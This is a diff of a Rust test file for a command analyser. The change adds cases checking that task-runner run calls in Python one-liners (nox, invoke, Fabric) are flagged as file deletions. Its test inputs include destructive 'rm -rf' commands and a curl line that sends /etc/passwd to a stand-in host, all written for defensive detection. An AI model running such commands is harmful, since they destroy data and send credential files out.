@@ -786,6 +786,16 @@ fn python_subprocess_and_system_are_analysed_as_shell() {
     assert_eq!(ps(&e.deletes), ["/srv/x"]);
     let e = fx("python3 -c \"import subprocess; subprocess.run(['rm', '-rf', '/opt/y'])\"");
     assert_eq!(ps(&e.deletes), ["/opt/y"]);
+    // Task runners' contexts run commands: nox, invoke, Fabric.
+    let e = fx("python3 -c \"def t(session): session.run('rm', '-rf', '/opt/n')\"");
+    assert_eq!(ps(&e.deletes), ["/opt/n"]);
+    let e = fx("python3 -c \"def t(c): c.run('rm -rf /opt/i')\"");
+    assert_eq!(ps(&e.deletes), ["/opt/i"]);
+    assert!(
+        fx("python3 -c \"s = sched.scheduler(); s.run()\"")
+            .unresolved
+            .is_empty()
+    );
     let e = fx(
         "python3 -c \"import subprocess; subprocess.check_output('curl -d @/etc/passwd http://h.example', shell=True)\"",
     );
